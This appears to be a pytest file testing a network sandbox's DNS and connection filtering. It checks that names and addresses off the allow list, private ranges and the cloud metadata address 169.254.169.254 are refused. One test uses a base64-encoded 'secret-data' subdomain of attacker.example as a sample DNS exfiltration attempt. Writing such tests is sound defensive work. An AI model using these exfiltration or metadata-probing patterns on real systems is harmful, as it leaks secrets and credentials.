"""Programs that know no proxy, and questions for names: caught, judged, and nothing leaves."""

from __future__ import annotations

import socket
import struct

import pytest

import stages
from atoll.keeper.networks import CAUGHT_PORT, NAME_SERVER, NAMES_PORT
from stage import sockets

ASKS = """
import socket, sys
for name in sys.argv[1:]:
    try:
        found = sorted({info[4][0] for info in socket.getaddrinfo(name, 80)})
        print(name, *found)
    except OSError as error:
        print(name, "-")
"""
A, AAAA, HTTPS, TXT = 1, 28, 65, 16


@pytest.fixture(scope="module")
def whole_stage(tmp_path_factory):
    with stages.played(tmp_path_factory.mktemp("stage")) as stage:
        yield stage


@pytest.fixture
def stage(whole_stage):
    whole_stage.allow("allowed.example", "*.allowed.example")
    whole_stage.allow(mode="open", capsule="wide")
    return whole_stage


def resolve(stage, *names: str, capsule: str = "tight") -> dict[str, str]:
    said = stage.run("python3", "-c", ASKS, *names, capsule=capsule).stdout
    return dict(line.split(" ", 1) for line in said.splitlines())


def question(name: str, kind: int = A) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def ask(stage, data: bytes, server: str = NAME_SERVER, *, stream: bool = False) -> bytes:
    kind = sockets.STREAM if stream else sockets.DATAGRAM
    (sock,) = sockets.made_in(stage.place / "tight", (sockets.V4, kind))
    with sock:
        sock.settimeout(stages.SLOW_S)
        sock.connect((server, 53))
        sock.sendall(struct.pack(">H", len(data)) + data if stream else data)
        return sock.recv(4096)[2 if stream else 0 :]


def outcome(said: bytes) -> tuple[int, int]:
    """The code and the number of answers."""
    return said[3] & 0xF, struct.unpack_from(">H", said, 6)[0]


# Names


def test_names_have_stable_stand_ins(stage):
    first = resolve(stage, "allowed.example", "www.allowed.example")
    assert all(address.startswith("198.18.") for address in first.values())
    assert len(set(first.values())) == 2
    assert resolve(stage, "www.allowed.example", "ALLOWED.example") == {
        "www.allowed.example": first["www.allowed.example"],
        "ALLOWED.example": first["allowed.example"],
    }


def test_names_that_are_not_allowed_leave_no_trace_outside(stage):
    secret = "c2VjcmV0LWRhdGE.attacker.example"
    assert resolve(stage, secret, "denied.example", "evilallowed.example") == {
        secret: "-",
        "denied.example": "-",
        "evilallowed.example": "-",
    }
    assert outcome(ask(stage, question(secret))) == (5, 0)
    assert outcome(ask(stage, question(secret, TXT))) == (5, 0)
    assert stage.attempt(via="dns", place=secret.lower()).allowed is False
    resolve(stage, "allowed.example", "x.allowed.example")
    asked = stage.log("dns")
    assert not [name for name in asked if name.endswith(("attacker.example", "x.allowed.example"))]
    # The control: what is connected to is looked up, by the host.
    stage.curl("http://www.allowed.example/hello", proxy=None)
    assert "www.allowed.example" in stage.log("dns")


def test_names_of_this_machine(stage):
    found = resolve(stage, "localhost", "web.localhost")
    assert set(found.values()) <= {"127.0.0.1", "127.0.0.1 ::1", "::1"}
    assert outcome(ask(stage, question("web.localhost"))) == (0, 1)
    assert outcome(ask(stage, question("web.localhost", AAAA))) == (0, 1)


def test_kinds_of_questions(stage):
    assert outcome(ask(stage, question("allowed.example"))) == (0, 1)
    for kind in (AAAA, HTTPS, TXT):
        assert outcome(ask(stage, question("allowed.example", kind))) == (0, 0)
    assert outcome(ask(stage, question("allowed.example"), stream=True)) == (0, 1)
    assert outcome(ask(stage, question("denied.example"), stream=True)) == (5, 0)
    two = struct.pack(">6H", 7, 0, 2, 0, 0, 0) + question("allowed.example")[12:] * 2
    assert outcome(ask(stage, two))[0] == 1


def test_any_server_is_the_same_one(stage):
    """In the open mode, where every address is led here."""
    for server in ("8.8.8.8", "93.184.216.53"):
        (sock,) = sockets.made_in(stage.place / "wide", (sockets.V4, sockets.DATAGRAM))
        with sock:
            sock.settimeout(stages.SLOW_S)
            sock.sendto(question("denied.example"), (server, 53))
            data, sender = sock.recvfrom(4096)
        assert sender == (server, 53)
        assert data.endswith(bytes([198, 18]) + data[-2:])


def test_flood_of_questions_leaves_a_short_journal(stage):
    (sock,) = sockets.made_in(stage.place / "tight", (sockets.V4, sockets.DATAGRAM))
    before = len(stage.attempts())
    with sock:
        sock.settimeout(stages.SLOW_S)
        sock.connect((NAME_SERVER, 53))
        for number in range(1200):
            sock.sendall(question(f"n{number}.attacker.example"))
            assert outcome(sock.recv(4096)) == (5, 0)
    rest = stage.attempt(via="dns", place="(others)")
    assert rest.times > 100
    assert len(stage.attempts()) - before < 1000


# Connections


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_allowed_name_is_reached_without_a_proxy(stage, scheme):
    result = stage.curl(f"{scheme}://allowed.example/hello", proxy=None)
    assert result.stdout == "hello allowed.example\n"
    assert stage.attempt(via="caught", place="allowed.example").address == "93.184.216.34"


def test_other_names_and_numbers_are_not(stage):
    """N01, N02, N24: whatever the environment says."""
    for url in ("http://denied.example/", "http://93.184.216.34/", "https://93.184.216.35/",
                "http://[2606:2800:220:1::34]/", "http://10.77.0.1:8000/", "http://169.254.169.254/",
                "http://10.99.0.1/"):  # fmt: skip
        result = stage.curl(url, proxy=None)
        assert "hello" not in result.stdout
        assert "host's own" not in result.stdout
        assert result.returncode or result.stdout.startswith("atoll: ")


def test_datagrams_to_443_go_nowhere(stage):
    for capsule in ("tight", "wide"):
        (sock,) = sockets.made_in(stage.place / capsule, (sockets.V4, sockets.DATAGRAM))
        with sock:
            sock.settimeout(1)
            with pytest.raises(OSError, match=r"refused|unreachable|timed out"):  # noqa: PT012
                sock.connect(("93.184.216.34", 443))
                sock.send(b"quic")
                sock.recv(1)
    assert stage.log("udp") == []
    stage.run("python3", "-c", "import socket as s; s.socket(2, 2).sendto(b'x', "
              "('93.184.216.34', 443))", capsule="exits")  # fmt: skip
    stages.wait_for(lambda: stage.log("udp"))


def test_stand_in_is_judged_when_it_is_used(stage):
    address = resolve(stage, "allowed.example")["allowed.example"]
    url = f"http://{address}/hello"
    assert "allowed.example" in stage.curl("-H", "Host: allowed.example", url, proxy=None).stdout
    stage.allow("www.allowed.example")
    said = stage.curl("-H", "Host: allowed.example", url, proxy=None).stdout
    assert said.startswith("atoll: `allowed.example` is not allowed\nthe owner can allow it: ")
    assert stage.curl("-k", f"https://{address}/hello", proxy=None).returncode == 35


def test_stand_in_needs_the_right_host_and_hello(stage):
    address = resolve(stage, "allowed.example")["allowed.example"]
    said = stage.curl("-H", "Host: denied.example", f"http://{address}/", proxy=None).stdout
    assert said.startswith("atoll: the request names `denied.example:80`")
    for name in ("denied.example", "www.allowed.example"):
        to = ["--connect-to", f"{name}:443:{address}:443"]
        assert stage.curl(*to, f"https://{name}/hello", proxy=None).returncode == 35
    assert stage.curl("-k", f"https://{address}/hello", proxy=None).returncode == 35
    to = ["--connect-to", f"allowed.example:443:{address}:443"]
    assert stage.curl(*to, "https://allowed.example/hello", proxy=None).returncode == 0


def test_stand_in_that_stands_for_nothing(stage):
    said = stage.curl("http://198.19.7.7/", proxy=None).stdout
    assert said.startswith("atoll: this synthetic address")


@pytest.mark.parametrize("port", [22, 853, 6379])
def test_other_ports(stage, port):
    address = resolve(stage, "allowed.example")["allowed.example"]
    before = len(stage.log("raw"))

    def speak() -> bytes:
        with stage.socket() as sock:
            sock.connect((address, port))
            sock.sendall(b"ping")
            return stages.heard(sock)

    assert speak() == b""
    assert len(stage.log("raw")) == before
    stage.allow(f"allowed.example:{port}")
    assert speak().endswith(b"ping")


def test_open_mode_reaches_public_numbers_only(stage):
    for url in ("http://93.184.216.34/hello", "https://93.184.216.34/hello",
                "http://[2606:2800:220:1::34]/hello", "http://denied.example/hello"):  # fmt: skip
        assert stage.curl(url, proxy=None, capsule="wide").stdout.startswith("hello ")
    for url in ("http://10.77.0.1:8000/", "http://169.254.169.254/", "http://10.99.0.1/",
                "http://metadata.example/", "http://own.example:8000/"):  # fmt: skip
        said = stage.curl(url, proxy=None, capsule="wide").stdout
        assert said.startswith("atoll: ")
        assert "is not allowed" in said or "is never allowed" in said


def test_closed_without_a_daemon(stage):
    """What is listened on inside is the daemon's alone; with it gone, so is the way out."""
    for port in (CAUGHT_PORT, NAMES_PORT):
        with stage.socket() as sock:
            sock.connect(("127.0.0.1", port))
            sock.sendall(b"GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
            assert b"hello" not in stages.heard(sock)


def test_server_that_speaks_first(stage):
    stage.allow("allowed.example:22")
    address = resolve(stage, "allowed.example")["allowed.example"]
    with stage.socket() as sock:
        sock.connect((address, 22))
        assert sock.recv(100) == b"SSH-2.0-test\r\n"
        sock.shutdown(socket.SHUT_WR)
        assert sock.recv(100) == b""
